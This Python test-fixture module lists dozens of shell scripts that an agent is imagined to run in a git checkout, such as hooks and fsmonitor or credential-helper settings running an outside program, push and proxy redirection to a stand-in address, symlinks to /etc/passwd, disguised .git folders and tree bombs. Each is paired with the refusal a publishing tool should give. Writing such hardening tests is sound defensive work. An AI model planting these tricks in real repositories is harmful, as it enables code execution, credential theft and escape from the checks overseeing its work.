"""The exhibits of the museum: tricks, planted by shell scripts, and what must become of the work beside them."""

from dataclasses import dataclass

NEW = "new.txt"
"""What every agent of the museum writes beside its trick."""
PROGRAM = "@PROGRAM@"
"""In a script: a program outside of every sandbox, which leaves a trace with the environment that it found."""
ADDRESS = "@ADDRESS@"
"""In a script: where nobody ever has a reason to connect to; who connects is counted."""


@dataclass(frozen=True, slots=True)
class Exhibit:
    """One trick. Unless it is refused, the work beside it is published as if there were none."""

    script: str
    refused: str = ""
    """What the publisher says; empty when the work beside the trick is published."""
    changes: tuple[str, ...] = (NEW,)
    """Paths that the published commit changes."""
    unreadable: bool = False
    """Whether no copy can be made of the checkout."""

    @property
    def judged(self) -> bool:
        """Whether the publisher says so beside all other reasons, before git sees anything."""
        later = ("does not name", "failed to encode", "Ignoring path")
        return bool(self.refused) and not self.unreadable and not any(sign in self.refused for sign in later)


def published(script: str, *changes: str) -> Exhibit:
    """Return a trick that itself becomes part of the commit, as what it is."""
    return Exhibit(script, changes=tuple(sorted({NEW, *changes})))


# In a git directory: configuration, hooks, and state that a plain git would obey. Each script runs at the top of a
# checkout, and as well in a repository of somebody.

CLIENT_HOOKS = (
    "applypatch-msg commit-msg fsmonitor-watchman post-applypatch post-checkout post-commit post-index-change "
    "post-merge post-rewrite pre-applypatch pre-auto-gc pre-commit pre-merge-commit pre-push pre-rebase "
    "prepare-commit-msg reference-transaction sendemail-validate"
)
SERVER_HOOKS = "pre-receive update post-receive post-update push-to-checkout"


def config(*pairs: tuple[str, str]) -> str:
    """Return the lines that plant settings."""
    return "\n".join(f"git config --add '{key}' '{value}'" for key, value in pairs)


def hooks(folder: str, names: str) -> str:
    """Return the lines that plant hooks in a folder."""
    return f"""mkdir -p {folder}
for hook in {names}; do
  printf '#!/bin/sh\\nexec @PROGRAM@\\n' > {folder}/$hook; chmod +x {folder}/$hook
done"""


def driven(*pairs: tuple[str, str]) -> str:
    """Return the lines that plant drivers, in attributes that nobody sees."""
    return config(*pairs) + "\nmkdir -p .git/info; echo '* filter=evil diff=evil merge=evil' > .git/info/attributes"


PAGERS = ("core.pager", "core.editor", "sequence.editor", "pager.status", "pager.diff", "pager.log")
SIGNERS = [(key, PROGRAM) for key in ("gpg.program", "gpg.openpgp.program", "gpg.ssh.program")]
SIGNATURES = [(key, "true") for key in ("commit.gpgSign", "tag.gpgSign")]
EVIL = "@ADDRESS@/x.git"
PACK_PROGRAMS = ("remote.origin.uploadpack", "remote.origin.receivepack")
EVIL_OBJECTS = "mkdir -p .git/objects/info; echo /var/lib/evil/objects >> .git/objects/info/alternates"
TEAM_SETTINGS = "printf '[core]\\n\\tfsmonitor = @PROGRAM@\\n' > team.cfg\n"
WORK_TREE_SETTINGS = "printf '[core]\\n\\tfsmonitor = @PROGRAM@\\n' > .git/config.worktree\n"
SUBMODULE = (("submodule.x.url", "ext::" + PROGRAM), ("submodule.x.update", "!@PROGRAM@"))
LFS_AGENT = ("lfs.customtransfer.evil.path", PROGRAM)
HIDE_ALL = "echo '*' > .git/info/all; mkdir -p .git/info; echo '*' > .git/info/exclude; echo '*' > .git/info/all\n"
GIT_DIR: dict[str, Exhibit] = {
    # Every hook that a client runs.
    "hooks_of_clients": Exhibit(hooks(".git/hooks", CLIENT_HOOKS)),
    # Every hook that a server runs: a local repository is one when it is pushed to.
    "hooks_of_servers": Exhibit(hooks(".git/hooks", SERVER_HOOKS)),
    # core.hooksPath: hooks that lie in the work tree.
    "hooks_path": published(
        hooks("tools", "pre-commit pre-push reference-transaction") + "\n" + config(("core.hooksPath", "tools")),
        "tools/pre-commit",
        "tools/pre-push",
        "tools/reference-transaction",
    ),
    # core.fsmonitor: a program that every look at the work tree starts.
    "fsmonitor": Exhibit(config(("core.fsmonitor", PROGRAM))),
    # core.sshCommand, with every address rewritten to SSH.
    "ssh_command": Exhibit(
        config(("core.sshCommand", PROGRAM), ("ssh.variant", "simple"), ("url.ssh://evil/.insteadOf", "http"))
    ),
    # core.gitProxy, with every address rewritten to git://.
    "git_proxy": Exhibit(config(("core.gitProxy", PROGRAM), ("url.git://evil/.insteadOf", "http"))),
    # The ext:: protocol, allowed, with every address rewritten to it.
    "remote_helper": Exhibit(config(("protocol.ext.allow", "always"), ("url.ext::@PROGRAM@ %S .insteadOf", "http"))),
    # core.pager, core.editor, sequence.editor and a pager of each command.
    "pagers_and_editors": Exhibit(config(*((key, PROGRAM) for key in PAGERS))),
    # core.askPass: a program that is asked for the password.
    "ask_pass": Exhibit(config(("core.askPass", PROGRAM))),
    # credential.helper: a program that is asked for the password, and told it when it was right.
    "credential_helper": Exhibit(config(("credential.helper", "!@PROGRAM@"), ("credential.useHttpPath", "true"))),
    # gpg.program, and a signature asked of everything.
    "signing": Exhibit(config(*SIGNERS, *SIGNATURES, ("push.gpgSign", "if-asked"), ("user.signingKey", "evil"))),
    # filter.*.clean and smudge, in attributes that nobody sees.
    "filter_clean": Exhibit(driven(("filter.evil.clean", PROGRAM), ("filter.evil.smudge", PROGRAM))),
    # filter.*.process, required.
    "filter_process": Exhibit(driven(("filter.evil.process", PROGRAM), ("filter.evil.required", "true"))),
    # diff.external, and a driver's command and textconv.
    "diff_drivers": Exhibit(
        driven(*((key, PROGRAM) for key in ("diff.external", "diff.evil.command", "diff.evil.textconv")))
    ),
    # merge.*.driver, the default of all files.
    "merge_driver": Exhibit(driven(("merge.evil.driver", PROGRAM), ("merge.default", "evil"))),
    # url.*.insteadOf: every address becomes another one.
    "instead_of": Exhibit(config(("url.@ADDRESS@/.insteadOf", "http://"), ("url.@ADDRESS@/s/.insteadOf", "https://"))),
    # url.*.pushInsteadOf: what is pushed goes elsewhere, what is fetched does not.
    "push_instead_of": Exhibit(config(("url.@ADDRESS@/.pushInsteadOf", "http://"))),
    # remote.*.pushurl, and a default remote of that name.
    "push_url": Exhibit(
        config(("remote.origin.url", EVIL), ("remote.origin.pushurl", EVIL), ("remote.pushDefault", "origin"))
    ),
    # remote.*.vcs, uploadpack and receivepack: a helper or program for one remote.
    "remote_programs": Exhibit(config(("remote.origin.vcs", "ext"), *((key, PROGRAM) for key in PACK_PROGRAMS))),
    # http.proxy: all traffic, the token with it, goes through a stranger.
    "http_proxy": Exhibit(
        config(("http.proxy", ADDRESS), ("remote.origin.proxy", ADDRESS), ("http.sslVerify", "false"))
    ),
    # http.cookieFile and saveCookies, http.extraHeader: files written, headers added.
    "http_files": Exhibit(
        config(("http.cookieFile", PROGRAM), ("http.saveCookies", "true"), ("http.extraHeader", "X-Evil: 1"))
    ),
    # objects/info/alternates that point at objects of the machine, and a command that lists their refs.
    "alternates": Exhibit(EVIL_OBJECTS + "\n" + config(("core.alternateRefsCommand", PROGRAM))),
    # objects/info/http-alternates: a dumb server's objects, found elsewhere.
    "http_alternates": Exhibit(
        "mkdir -p .git/objects/info; echo @ADDRESS@/objects > .git/objects/info/http-alternates"
    ),
    # include.path: configuration that lies in the work tree.
    "included": published(TEAM_SETTINGS + config(("include.path", "../team.cfg")), "team.cfg"),
    # includeIf: the same under a condition that always holds.
    "included_if": published(TEAM_SETTINGS + config(("includeIf.gitdir:/**.path", "../team.cfg")), "team.cfg"),
    # extensions.worktreeConfig: a second file of configuration.
    "work_tree_config": Exhibit(WORK_TREE_SETTINGS + config(("extensions.worktreeConfig", "true"))),
    # alias.*: commands of the repository's own.
    "aliases": Exhibit(config(*((f"alias.{name}", "!@PROGRAM@") for name in ("st", "ci", "push", "export")))),
    # uploadpack.packObjectsHook: a program between upload-pack and what it packs.
    "pack_objects_hook": Exhibit(config(("uploadpack.packObjectsHook", PROGRAM))),
    # submodule.*.update: a command instead of a checkout.
    "submodule_update": Exhibit(
        config(*SUBMODULE, ("submodule.recurse", "true"), ("push.recurseSubmodules", "on-demand"))
    ),
    # LFS: a server elsewhere, and a transfer agent that is a program.
    "lfs": Exhibit(config(("lfs.url", ADDRESS), LFS_AGENT, ("lfs.standalonetransferagent", "evil"))),
    # core.worktree: what is added comes from another folder.
    "work_tree_elsewhere": Exhibit(config(("core.worktree", "/etc"))),
    # core.excludesFile and info/exclude: what was done is hidden from git.
    "excludes": Exhibit(HIDE_ALL + config(("core.excludesFile", ".git/info/all"))),
    # trailer.*.command: a program that writes a line of each message.
    "trailers": Exhibit(
        config(("trailer.evil.key", "Evil"), ("trailer.evil.cmd", PROGRAM), ("trailer.evil.ifmissing", "add"))
    ),
}


# What a git directory is: moved, pointed elsewhere, broken, or lying about the tree. Each script runs at the top of a
# checkout; most of them leave no repository there.


def evil_copy(place: str) -> str:
    """Return the lines that copy the git directory, with a trap in the copy's configuration."""
    return f"cp -a .git {place}; git --git-dir={place} config core.fsmonitor @PROGRAM@"


KEEP_SETTINGS = "find store -mindepth 1 -maxdepth 1 ! -name HEAD ! -name config -exec rm -rf {} +"
HIDDEN = "git update-index --assume-unchanged src/a.py; git update-index --skip-worktree src/b.py"
POINTERS: dict[str, Exhibit] = {
    # .git is a link to a folder of the work tree.
    "link": Exhibit(
        f"mkdir store; {evil_copy('store/.git')}; rm -rf .git; ln -s store/.git .git", "store/.git: its name means .git"
    ),
    # .git is a link to a folder of the machine.
    "link_elsewhere": Exhibit("rm -rf .git; ln -s /etc .git"),
    # .git is a file that points at a folder of the work tree.
    "file": published(
        f"{evil_copy('store')}; {KEEP_SETTINGS}; rm -rf .git; echo 'gitdir: store' > .git", "store/config", "store/HEAD"
    ),
    # commondir and gitdir: the pointers of a linked work tree.
    "work_tree_pointer": Exhibit("echo /etc > .git/commondir; echo /etc/.git > .git/gitdir"),
    # There is no .git any more.
    "gone": Exhibit("rm -rf .git"),
    # .git is a pipe, on which a reader waits for ever.
    "pipe": Exhibit("rm -rf .git; mkfifo .git"),
    # .git cannot be entered.
    "locked_away": Exhibit("chmod 000 .git/objects .git", "", unreadable=True),
    # A repository format and an extension that no git knows.
    "unknown_format": Exhibit(config(("extensions.evil", "true")) + "\ngit config core.repositoryformatversion 1"),
    # refs/replace: git shows another commit and another file than the ones that are named.
    "replaced_objects": Exhibit("""evil=$(echo 'a = 666' | git hash-object -w --stdin)
git replace $(git rev-parse HEAD:src/a.py) $evil
git replace $(git rev-parse HEAD) $(git commit-tree -m evil HEAD^{tree})"""),
    # info/grafts and shallow: the history is another one.
    "grafts": Exhibit("git rev-parse HEAD > .git/shallow; git rev-parse HEAD > .git/info/grafts"),
    # The index says that changed files need no look: they are published all the same.
    "hidden_changes": published(f"{HIDDEN}; echo 'a = 2' > src/a.py; echo 'b = 2' > src/b.py", "src/a.py", "src/b.py"),
    # A sparse checkout takes files away, and the publisher takes the tree as it stands.
    "sparse_checkout": published("git sparse-checkout set --no-cone '/src/*'", "README.md", "link", "run.sh"),
    # The index is nonsense, and locked.
    "broken_index": Exhibit("echo nonsense > .git/index; touch .git/index.lock .git/HEAD.lock .git/config.lock"),
    # Branches and tags whose names are options.
    "option_names": Exhibit("""for name in --upload-pack=evil -u --exec=evil; do
  git rev-parse HEAD > .git/refs/heads/$name; mkdir -p .git/refs/tags; git rev-parse HEAD > .git/refs/tags/$name
done"""),
    # HEAD and the packed refs name files of the machine.
    "head_elsewhere": Exhibit(
        "echo 'ref: refs/heads/../../../../../etc/passwd' > .git/HEAD; echo '../../x y' > .git/packed-refs"
    ),
    # The agent commits, moves branches and leaves a merge half done.
    "own_commits": Exhibit("git add -A; git commit -qm evil; git branch -f main; git rev-parse HEAD > .git/MERGE_HEAD"),
    # An object of the base, under its own id, holds something else.
    "broken_objects": Exhibit("""oid=$(git rev-parse HEAD:src/a.py); place=.git/objects/$(echo $oid | cut -c1-2)
mkdir -p $place; echo nonsense > $place/$(echo $oid | cut -c3-)"""),
}


MEANS_GIT = "its name means .git"
NOT_ON_WINDOWS = "cannot be had on Windows"


IN_LIB = "printf '[core]\\n\\tbare = true\\n\\tfsmonitor = @PROGRAM@\\n' > lib/config"
AT_TOP = "printf '[core]\\n\\tbare = true\\n\\tfsmonitor = @PROGRAM@\\n' > config"
TREE: dict[str, Exhibit] = {
    # A link to a file of the machine.
    "link_to_the_machine": Exhibit("ln -s /etc/passwd out", "out: it is a link that leads out"),
    # A link up and out of the repository.
    "link_upwards": Exhibit("ln -s ../../publishing src/out", "src/out: it is a link that leads out"),
    # Two links that each look harmless; together they lead out.
    "links_in_a_chain": Exhibit(
        "mkdir -p a/b; ln -s ../.. a/b/top; ln -s a/b/top/../x out", "out: it is a link that leads out"
    ),
    # A link into .git, in another case.
    "link_into_git": Exhibit("ln -s src/../.GIT/config out", "out: it is a link that leads out"),
    # Links down and up again, into the checkout's own .git, and to itself.
    "link_down_and_up": Exhibit("ln -s src/../../x out", "out: it is a link that leads out"),
    "link_into_own_git": Exhibit("ln -s .git/config out", "out: it is a link that leads out"),
    "link_to_itself": Exhibit("ln -s out out", "out: it is a link that leads out"),
    # Links that stay inside are kept as links, dangling ones too.
    "links_inside": published("ln -s src/a.py inner; ln -s ../not/there src/up", "inner", "src/up"),
    # A folder of the base is a link now: nothing is written through it.
    "folder_became_a_link": published("rm -rf src; ln -s . src", "src", "src/a.py", "src/b.py"),
    # .GIT, which is .git where case does not count.
    "git_in_capitals": Exhibit("mkdir .GIT; printf '[core]\\n\\tfsmonitor = @PROGRAM@\\n' > .GIT/config", MEANS_GIT),
    # The same in a folder, with a dot and with a blank behind it, which Windows drops.
    "git_in_a_folder": Exhibit("mkdir src/.Git; echo x > src/.Git/config", MEANS_GIT),
    "git_with_a_dot": Exhibit("echo x > .git.", MEANS_GIT),
    "git_with_a_blank": Exhibit("echo x > '.git '", MEANS_GIT),
    # .g, i with a dot above in two code points, t.
    "git_with_an_accent": Exhibit("mkdir $'.gi\\u0307t'; echo x > $'.gi\\u0307t/config'", MEANS_GIT),
    # git~1, which is .git on NTFS.
    "git_as_a_short_name": Exhibit("mkdir git~1; echo x > git~1/config", MEANS_GIT),
    # .g, a joiner that HFS+ ignores, it.
    "git_with_an_ignorable": Exhibit("mkdir $'.g\\u200cit'; echo x > $'.g\\u200cit/config'", MEANS_GIT),
    # .git with a stream's name behind it, which is .git on NTFS.
    "git_as_a_stream": Exhibit("echo x > .git::\\$INDEX_ALLOCATION", MEANS_GIT),
    # .git in letters of full width.
    "git_in_full_width": Exhibit("mkdir ．ｇｉｔ; echo x > ．ｇｉｔ/config", MEANS_GIT),
    # A repository in a folder, with a trap in its configuration.
    "repository_inside": Exhibit(
        "git init -q mod; git -C mod config core.fsmonitor @PROGRAM@; echo x > mod/x", "mod/.git: " + MEANS_GIT
    ),
    # A folder whose .git points at a folder of the machine.
    "pointer_inside": Exhibit("mkdir mod; echo 'gitdir: /etc' > mod/.git; echo x > mod/x", "mod/.git: " + MEANS_GIT),
    # A folder that is a bare repository is published as the files that it is.
    "bare_inside": published(
        f"mkdir -p lib/objects lib/refs; echo 'ref: refs/heads/x' > lib/HEAD; {IN_LIB}; touch lib/{{objects,refs}}/x",
        "lib/HEAD",
        "lib/config",
        "lib/objects/x",
        "lib/refs/x",
    ),
    # HEAD, config, objects and refs at the top: the work tree looks like a bare repository.
    "bare_at_the_top": published(
        f"mkdir objects refs; echo 'ref: refs/heads/x' > HEAD; {AT_TOP}; touch objects/x refs/x",
        "HEAD",
        "config",
        "objects/x",
        "refs/x",
    ),
    # A pipe: whoever opens it waits for ever.
    "named_pipe": Exhibit("mkfifo pipe", "pipe: it is a socket, a pipe or a device"),
    # A socket.
    "unix_socket": Exhibit(
        "python3 -c 'import socket; socket.socket(socket.AF_UNIX).bind(\"sock\")'",
        "sock: it is a socket, a pipe or a device",
    ),
    # A second name of a file is a file of its own.
    "hard_link": published("ln src/a.py hard", "hard"),
    # The setuid bit is not kept.
    "setuid": published("echo '#!/bin/sh' > tool; chmod 6755 tool", "tool"),
    # A file of 200 MB that takes no room on disk.
    "huge_file": Exhibit("truncate -s 200M huge", "huge: it is larger than 50 MB"),
    # A file of the base that has become endless, as good as: whoever reads it never ends.
    "endless_file": Exhibit(
        "truncate -s 900G src/a.py || truncate -s 1G src/a.py", "src/a.py: it is larger than 50 MB"
    ),
    # A name that differs from another one in case alone.
    "other_case": Exhibit("echo x > readme.MD", "README.md is the same name on other systems"),
    # Two names that are one where forms of Unicode do not count.
    "other_form": Exhibit("echo 1 > $'caf\\u00e9'; echo 2 > $'cafe\\u0301'", "is the same name on other systems"),
    # A name that leads upwards on Windows.
    "backslash": Exhibit("echo x > '..\\..\\evil'", NOT_ON_WINDOWS),
    # A stream of a file on Windows.
    "stream": Exhibit("echo x > a:b", NOT_ON_WINDOWS),
    # Names whose last blank or dot Windows drops.
    "blank_at_the_end": Exhibit("echo x > 'a '", NOT_ON_WINDOWS),
    "dot_at_the_end": Exhibit("echo x > 'run.sh.'", NOT_ON_WINDOWS),
    # A name of two lines.
    "new_line": Exhibit("echo x > $'a\\nb'", NOT_ON_WINDOWS),
    # A name that git reads as a pattern.
    "magic": Exhibit("echo x > ':(top,glob)**'", NOT_ON_WINDOWS),
    # A name that is a device on Windows.
    "device_of_windows": Exhibit("echo x > src/aux.txt", NOT_ON_WINDOWS),
    # Names that look like options are files.
    "options": published("echo x > ./-rf; echo x > ./--upload-pack=evil", "--upload-pack=evil", "-rf"),
    # A name with a character that turns the direction of writing.
    "turned_around": Exhibit("echo x > $'a\\u202egpj.exe'", "invisible characters"),
    # A name that is no text.
    "no_text": Exhibit("echo x > $'bad\\xff'", "no UTF-8"),
    # .gitmodules with an address that is a command.
    "modules": Exhibit(
        "printf '[submodule \"-u\"]\\n\\tpath = -u\\n\\turl = ext::@PROGRAM@\\n' > .gitmodules",
        "does not name: .gitmodules",
    ),
    # .gitmodules is a link.
    "modules_as_a_link": Exhibit("ln -s src/a.py .gitmodules", "Ignoring path .gitmodules"),
    # .gitattributes that name a filter, and its program in the configuration.
    "attributes": Exhibit(
        "echo '* filter=evil' > .gitattributes; git config filter.evil.clean @PROGRAM@", "does not name: .gitattributes"
    ),
    # .gitattributes that name an encoding which nobody has: git can store no file.
    "unknown_encoding": Exhibit(
        "echo '* working-tree-encoding=EVIL-8' > .gitattributes; echo x > other", "failed to encode"
    ),
    # Folders in folders, deeper than a path can be long.
    "deep": Exhibit(
        'python3 -c \'import os\nfor _ in range(3000): os.mkdir("d"); os.chdir("d")\nopen("f", "w").close()\'',
        "it lies too deep",
        unreadable=True,
    ),
    # .gitignore with a pattern that takes for ever to match.
    "slow_rules": published(f"echo '{'*a' * 30}b' > .gitignore; touch {'a' * 100}; rm {'a' * 100}", ".gitignore"),
}


# On the server: trees, histories and refs that somebody pushed. Each script runs in a repository that is pushed
# afterwards, with all of its refs; what is refused is refused before a checkout is made.

DANGEROUS = "the history holds a dangerous object"
TOO_LARGE = "a commit of this repository is too large"


def commit(*lines: str) -> str:
    """Return the lines that commit the work tree after these."""
    return "\n".join((*lines, "git add -A; git commit -qm evil"))


def entry(mode: str, kind: str, name: str, content: str = "x") -> str:
    """Return the lines that add an entry to the top tree of HEAD, whatever git thinks of it."""
    oid = f"$(printf '{content}' | git hash-object -w --stdin)" if kind == "blob" else content
    added = f"printf '{mode} {kind} %s\\t%b\\0' {oid} '{name}'"
    return f"""tree=$( (git ls-tree -z HEAD; {added}) | git mktree -z --missing)
git reset -q --soft $(git commit-tree -p HEAD -m evil $tree)"""


EVIL_MODULE = "printf '[submodule \"x\"]\\n\\tpath = x\\n\\turl = ext::@PROGRAM@\\n' > .gitmodules"
LINKED = "git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),x; git commit -qm module"
LFS_POINTER = "printf 'version https://git-lfs.github.com/spec/v1\\noid sha256:%064d\\nsize 5\\n' 1 > big.bin"
EVIL_AUTHOR = "GIT_AUTHOR_NAME=$'a\\e[31m\\u202e' GIT_AUTHOR_EMAIL=--evil"
TEN_TIMES = r"for n in 0 1 2 3 4 5 6 7 8 9; do printf '040000 tree %s\td%s\n' $tree $n; done"
HUNDRED_NAMES = r"for n in $(seq 100); do printf '100644 blob %s\tf%s\n' $blob $n; done"
DEEP_TREE = """import hashlib, os, sys, zlib
oid = sys.argv[1]
for _ in range(5000):
    data = b"40000 d\\0" + bytes.fromhex(oid)
    whole = b"tree %d\\0" % len(data) + data
    oid = hashlib.sha1(whole).hexdigest()
    os.makedirs(f".git/objects/{oid[:2]}", exist_ok=True)
    with open(f".git/objects/{oid[:2]}/{oid[2:]}", "wb") as file:
        file.write(zlib.compress(whole, 0))
print(oid)"""
HISTORY: dict[str, Exhibit] = {
    # A tree that holds .GIT.
    "git_in_a_tree": Exhibit(entry("100644", "blob", ".GIT"), DANGEROUS),
    # A tree that holds .git with a joiner in it.
    "git_with_an_ignorable": Exhibit(entry("100644", "blob", ".g\\xe2\\x80\\x8cit"), DANGEROUS),
    # A tree that holds .., whose files lie outside of it.
    "upwards": Exhibit(entry("040000", "tree", "..", "$(git rev-parse HEAD:src)"), DANGEROUS),
    # A tree that holds one name twice, as a link and as a folder: what is in the one is written through the other.
    "twice": Exhibit(entry("120000", "blob", "src", "/tmp"), DANGEROUS),
    # .gitmodules whose address is an option of git.
    "modules_with_an_option": Exhibit(
        entry("100644", "blob", ".gitmodules", '[submodule "x"]\\n\\tpath = x\\n\\turl = -u' + PROGRAM), DANGEROUS
    ),
    # .gitmodules whose name leads upwards, to a git directory that is a folder of the repository.
    "modules_with_a_path": Exhibit(
        entry("100644", "blob", ".gitmodules", '[submodule "../../x"]\\n\\tpath = x\\n\\turl = ./x'), DANGEROUS
    ),
    # .gitmodules is a link.
    "modules_as_a_link": Exhibit(entry("120000", "blob", ".gitmodules", "src/a.py"), DANGEROUS),
    # .gitmodules with a command as its address and as its update; nobody asked for submodules.
    "modules_with_a_command": Exhibit(f"{commit(EVIL_MODULE)}; {LINKED}"),
    # .gitattributes that name drivers for everything, and LFS for what stays as it is.
    "attributes": Exhibit(
        commit("printf '* filter=evil diff=evil merge=evil\\nsrc/** filter=lfs\\n' > .gitattributes")
    ),
    # .gitattributes that name an encoding which nobody has.
    "unknown_encoding": Exhibit(
        commit("echo '*.xyz working-tree-encoding=EVIL-8' > .gitattributes; echo x > a.xyz")
        + ("\n" + entry("100644", "blob", "b.xyz"))
    ),
    # LFS pointers, and .lfsconfig with a stranger's address.
    "lfs": Exhibit(commit(LFS_POINTER, "printf '[lfs]\\n\\turl = @ADDRESS@\\n' > .lfsconfig")),
    # A folder that is a bare repository, with a trap in its configuration.
    "bare_inside": Exhibit(
        commit(
            "git init -q --bare fixture",
            "git -C fixture config core.fsmonitor @PROGRAM@",
            "touch fixture/refs/x fixture/objects/x",
        )
    ),
    # Links to folders of the machine, and .gitignore and .gitattributes that are links.
    "links_to_the_machine": Exhibit(
        commit("ln -s /etc out; ln -s ../../.. up; ln -s src/a.py .gitattributes; ln -s src/a.py .gitignore")
    ),
    # Names that would be refused as new ones: options, patterns, two lines, devices, blanks.
    "odd_names": Exhibit(
        commit("for name in -u $'a\\nb' ':(top)x' aux.txt 'b ' 'c.' '..\\x'; do echo x > \"./$name\"; done")
    ),
    # Names that are one where case does not count, a link among them.
    "same_names": Exhibit(commit("ln -s src SRC; echo 1 > readme.MD")),
    # Branches and tags that are options, and objects that are replaced.
    "refs_on_the_server": Exhibit("""git tag -- x
cp .git/refs/tags/x .git/refs/tags/--upload-pack=evil; cp .git/refs/tags/x .git/refs/heads/-u
git replace $(git rev-parse HEAD:src/a.py) $(echo 666 | git hash-object -w --stdin)"""),
    # A commit whose author and message hold control characters, and name an encoding.
    "message_and_author": Exhibit(
        f"{EVIL_AUTHOR} git -c i18n.commitEncoding=EVIL commit -q --allow-empty -m $'--upload-pack=x\\n\\e]0;x\\a'"
    ),
    # Eight trees that each hold the one below ten times: a hundred million files in a kilobyte.
    "bomb_of_trees": Exhibit(
        f"""tree=$(git rev-parse HEAD:src)
for level in 1 2 3 4 5 6 7 8; do tree=$( ({TEN_TIMES}) | git mktree); done
{entry("040000", "tree", "bomb", "$tree")}""",
        TOO_LARGE,
    ),
    # The same with nothing at the bottom: a listing of files alone never comes to one.
    "bomb_of_folders": Exhibit(
        f"""tree=$(git mktree < /dev/null)
for level in 1 2 3 4 5 6 7 8 9; do tree=$( ({TEN_TIMES}) | git mktree); done
{entry("040000", "tree", "bomb", "$tree")}""",
        TOO_LARGE,
    ),
    # A name that no file system takes.
    "long_name": Exhibit(
        entry("100644", "blob", "n" * 300, "$(git rev-parse HEAD:src/a.py)"),
        TOO_LARGE + ": a name in it is longer than 255 bytes",
    ),
    # A hundred names of one file that is small when it is packed, and 20 GB on disk.
    "bomb_of_files": Exhibit(
        f"""blob=$(head -c 200000000 /dev/zero | git hash-object -w --stdin)
tree=$( ({HUNDRED_NAMES}) | git mktree)
{entry("040000", "tree", "bomb", "$tree")}""",
        TOO_LARGE,
    ),
    # A tree in a tree, five thousand times, deeper than a path can be long.
    "deep": Exhibit(
        f"tree=$(python3 -c '{DEEP_TREE}' $(git rev-parse HEAD:src))\n" + entry("040000", "tree", "deep", "$tree"),
        TOO_LARGE,
    ),
}
